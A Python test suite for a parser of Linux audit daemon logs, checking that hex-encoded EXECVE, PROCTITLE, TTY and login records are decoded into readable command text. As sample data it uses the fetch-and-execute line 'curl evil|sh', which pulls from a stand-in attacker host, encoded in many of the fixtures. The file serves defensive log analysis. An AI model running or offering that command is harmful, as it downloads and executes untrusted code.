"""Records of the audit daemon: commands read as they were typed, whatever they were written in."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

ID = "msg=audit(1772705472.123:77):"
EVIL = "curl evil|sh"
HEX = EVIL.encode().hex().upper()


def one(read, line: str) -> dict[str, object]:
    table, rejects = read("audit.log", line.encode("utf-8", "surrogateescape"))
    assert rejects.total == 0
    (event,) = table.to_pylist()
    return event


@pytest.mark.parametrize(
    ("line", "text"),
    [
        (f'type=EXECVE {ID} argc=3 a0="sh" a1="-c" a2={HEX}', f"sh -c {EVIL}"),
        (f'type=EXECVE {ID} argc=11 {" ".join(f"a{i}={i}" for i in range(9))} a9="9" a10="x"', "0 1 2 3 4 5 6 7 8 9 x"),
        (f'type=EXECVE {ID} argc=2 a0="sh" a1_len=12 a1[0]={HEX[:12]} a1[1]={HEX[12:]}', f"sh {EVIL}"),
        (f'type=EXECVE {ID} argc=2 a0="echo" a1_len=4 a1[0]=C3 a1[1]=A9', "echo é"),
        (f"type=USER_CMD {ID} pid=1 uid=1000 auid=1000 msg='cwd=\"/\" cmd={HEX} terminal=pts/0 res=success'", EVIL),
        (f'type=TTY {ID} tty pid=1 uid=0 auid=1000 comm="bash" data={HEX}', EVIL),
        (f"type=PROCTITLE {ID} proctitle=7368002D63003C783E", 'type=PROCTITLE proctitle="sh -c <x>"'),
        (f"type=1309 {ID} argc=1 a0={HEX}", EVIL),
        (
            f"type=USER_LOGIN {ID} pid=1 uid=0 msg='op=login acct={HEX} exe=\"/sshd\" addr=203.0.113.5 res=failed'",
            f'type=USER_LOGIN pid=1 uid=0 msg=\'op=login acct="{EVIL}" exe="/sshd" addr=203.0.113.5 res=failed\'',
        ),
        (f'type=SYSCALL {ID} a0=55 a1=7ffd comm="sh" key=(null)', 'type=SYSCALL a0=55 a1=7ffd comm="sh" key=(null)'),
        (f'type=AVC {ID} avc:  denied  {{ read }} for name="a"', 'type=AVC avc:  denied  { read } for name="a"'),
    ],
)
def test_what_was_typed_is_judged(read, line: str, text: str) -> None:
    event = one(read, line)
    assert (event["text"], event["time"], event["overflow"]) == (text, "2026-03-05T10:11:12.123000Z", False)


def test_a_command_whose_arguments_go_on_in_another_record_is_marked(read) -> None:
    assert one(read, f'type=EXECVE {ID} argc=5 a0="sh" a1="x"')["overflow"] is True


def test_a_title_that_repeats_the_command_of_its_event_is_counted(read) -> None:
    """The kernel writes both of one execution, and no more than 128 bytes of the title."""
    other = ID.replace(":77)", ":78)")
    long = "sh -c " + "x" * 200
    lines = [
        f'type=EXECVE {ID} argc=3 a0="sh" a1="-c" a2={HEX}',
        f'type=CWD {ID} cwd="/"',
        f"type=PROCTITLE {ID} proctitle={f'sh{chr(0)}-c{chr(0)}{EVIL}'.encode().hex().upper()}",
        f"type=PROCTITLE {other} proctitle={f'sh -c {EVIL}'.encode().hex().upper()}",
        f'type=EXECVE {other} argc=3 a0="sh" a1="-c" a2="{"x" * 200}"',
        f"type=PROCTITLE {other} proctitle={long[:128].encode().hex().upper()}",
        f'type=PROCTITLE {other} proctitle="another"',
    ]
    table, rejects = read("audit.log", "\n".join(lines).encode())
    assert table["text"].to_pylist() == [
        f"sh -c {EVIL}",
        'type=CWD cwd="/"',
        f'type=PROCTITLE proctitle="sh -c {EVIL}"',
        long,
        'type=PROCTITLE proctitle="another"',
    ]
    assert rejects.summary() == {"a title that repeats the command of its event": 2}


def test_columns_and_the_records_of_one_event(read) -> None:
    lines = [
        f'node=web1 type=SYSCALL {ID} auid=1000 uid=0 comm="sh"\x1dAUID="bob" UID="root"',
        f'node=web1 type=EXECVE {ID} argc=1 a0="sh"',
        f"type=USER_LOGIN {ID} auid=4294967295 uid=0 msg='acct=\"eve\" addr=203.0.113.5'",
    ]
    table, _ = read("audit.log", "\r\n".join(lines).encode())
    assert table["user"].to_pylist() == ["bob", None, "eve"]
    assert table["host"].to_pylist() == ["web1", "web1", None]
    assert table["src_ip"].to_pylist() == [None, None, "203.0.113.5"]
    assert table["group"].to_pylist() == ["web1 77", "web1 77", "77"]
    assert table["kind"].to_pylist() == ["auditd-syscall", "auditd-execve", "auditd-user_login"]


@pytest.mark.parametrize("sender", ["audispd: node=web1 ", "kernel: audit: ", "audispd: "])
def test_syslog_may_carry_it(read, sender: str) -> None:
    event = one(read, f"<13>Mar  5 10:11:12 web1 {sender}type=EXECVE {ID} argc=1 a0={HEX}")
    assert (event["text"], event["host"], event["kind"]) == (EVIL, "web1", "auditd-execve")


def test_lines_between_are_rejected(read) -> None:
    record = f'type=EXECVE {ID} argc=1 a0="sh"'
    table, rejects = read("audit.log", f"{record}\n----\n{record}\n".encode())
    assert table.num_rows == 2
    assert rejects.summary() == {"not a record of the audit daemon": 1}


@given(st.lists(st.binary(min_size=1, max_size=12).filter(lambda one: b"\0" not in one), min_size=1, max_size=4))
def test_any_arguments_are_read_back(read, arguments: list[bytes]) -> None:
    """They are written as the kernel does: in quotes where all is printable, no quote and no blank."""
    written = [f'"{one.decode()}"' if re.fullmatch(rb"[!#-~]+", one) else one.hex().upper() for one in arguments]
    fields = " ".join(f"a{place}={one}" for place, one in enumerate(written))
    event = one(read, f"type=EXECVE {ID} argc={len(arguments)} {fields}")
    assert event["text"] == b" ".join(arguments).decode("utf-8", "backslashreplace")
    assert event["overflow"] is False


@given(st.binary(max_size=40))
def test_whatever_follows_is_an_event(read, rest: bytes) -> None:
    line = f"type=EXECVE {ID} ".encode() + rest.replace(b"\n", b" ")
    table, rejects = read("audit.log", b"\n".join([line] * 2), format="auditd")
    assert table.num_rows + rejects.total == 2
